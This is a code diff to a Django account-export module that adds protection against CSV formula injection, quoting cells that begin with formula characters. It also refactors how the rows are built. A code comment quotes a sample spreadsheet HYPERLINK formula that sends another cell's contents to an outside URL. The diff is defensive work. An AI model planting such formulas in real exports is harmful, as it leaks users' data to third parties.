@@ -2,6 +2,8 @@
 
 import csv
 import io
+import re
+from collections.abc import Iterator
 
 from django.utils import timezone
 
@@ -20,6 +22,23 @@ CSV_COLUMNS = [
     "progress_is_public",
     "date_joined",
 ]
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula, so learner- and
+# editor-written text could leak the other cells (=HYPERLINK("http://…?"&G2)). OWASP's advice:
+# start such a cell with a quote. Values that already start with quotes before one of these
+# get one more, so csv_cell_value() gives back exactly what was written.
+FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
+
+
+def csv_cell(value: str) -> str:
+    """A value as a CSV cell that spreadsheets show as text rather than run."""
+    return f"'{value}" if FORMULA_START.match(value) else value
+
+
+def csv_cell_value(cell: str) -> str:
+    """The value csv_cell() was given: for reading an export back in."""
+    return cell[1:] if cell.startswith("'") and FORMULA_START.match(cell, 1) else cell
 
 
 def account_export(user) -> dict:
@@ -82,37 +101,38 @@ def account_export_csv(data: dict) -> str:
     out = io.StringIO()
     writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, restval="")
     writer.writeheader()
-    account = data["account"]
-    writer.writerow(
-        {
-            "record_type": "account",
-            "slug": account["username"],
-            "name": account["display_name"],
-            "email": account["email"],
-            "progress_is_public": "true" if account["progress_is_public"] else "false",
-            "date_joined": account["date_joined"],
-        }
+    writer.writerows(
+        {column: csv_cell(value) for column, value in row.items()} for row in _csv_rows(data)
     )
+    return out.getvalue()
+
+
+def _csv_rows(data: dict) -> Iterator[dict[str, str]]:
+    account = data["account"]
+    yield {
+        "record_type": "account",
+        "slug": account["username"],
+        "name": account["display_name"],
+        "email": account["email"],
+        "progress_is_public": "true" if account["progress_is_public"] else "false",
+        "date_joined": account["date_joined"],
+    }
     for entry in data["progress"]:
-        writer.writerow(
-            {
-                "record_type": f"{entry['kind']}_progress",
-                "slug": entry["slug"],
-                "name": entry["name"],
-                "status": entry["status"],
-                "updated_at": entry["updated_at"],
-            }
-        )
+        yield {
+            "record_type": f"{entry['kind']}_progress",
+            "slug": entry["slug"],
+            "name": entry["name"],
+            "status": entry["status"],
+            "updated_at": entry["updated_at"],
+        }
     for note in data["notes"]:
-        writer.writerow(
-            {
-                "record_type": "note",
-                "slug": note["skill"],
-                "name": note["skill_name"],
-                "note_text": note["text"],
-                "updated_at": note["updated_at"],
-            }
-        )
+        yield {
+            "record_type": "note",
+            "slug": note["skill"],
+            "name": note["skill_name"],
+            "note_text": note["text"],
+            "updated_at": note["updated_at"],
+        }
     for sitting in data["quiz_history"]:
         finished = sitting["finished_at"] is not None
         if not finished:
@@ -121,13 +141,10 @@ def account_export_csv(data: dict) -> str:
             status = "finished"
         else:
             status = f"{sitting['score']} of {sitting['questions']}"
-        writer.writerow(
-            {
-                "record_type": "quiz_sitting",
-                "slug": sitting["quiz"],
-                "name": sitting["quiz_title"],
-                "status": status,
-                "updated_at": sitting["finished_at"] or sitting["started_at"],
-            }
-        )
-    return out.getvalue()
+        yield {
+            "record_type": "quiz_sitting",
+            "slug": sitting["quiz"],
+            "name": sitting["quiz_title"],
+            "status": status,
+            "updated_at": sitting["finished_at"] or sitting["started_at"],
+        }
